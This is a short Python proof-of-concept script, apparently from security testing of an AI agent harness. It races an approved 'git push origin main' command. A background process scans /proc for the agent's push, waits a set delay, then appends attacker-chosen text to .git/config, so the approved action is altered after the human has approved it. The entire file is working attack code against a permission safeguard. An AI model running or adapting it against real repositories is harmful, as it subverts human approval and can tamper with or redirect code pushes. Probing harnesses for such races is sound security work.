# F10's class again: a background green process waits for the agent's shell
# call of the approved push (seen in /proc), sleeps DELAY ms, then appends
# the text of CFG (VICTIM replaced) to .git/config.
# python3 tools/w.py DELAY_MS CFG VICTIM
import os, sys, time

delay_ms, cfg, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3]
text = open(cfg).read().replace("VICTIM", victim)
deadline = time.time() + 300
me = os.getpid()
while time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            c = open("/proc/%s/cmdline" % p, "rb").read().split(b"\0")
        except Exception:
            continue
        if b"git push origin main" in c[1:] and not c[0].endswith(b"git"):
            time.sleep(delay_ms / 1000.0)
            with open(".git/config", "a") as f:
                f.write(text)
            print("written after", delay_ms, "ms", flush=True)
            sys.exit(0)
    time.sleep(0.0005)
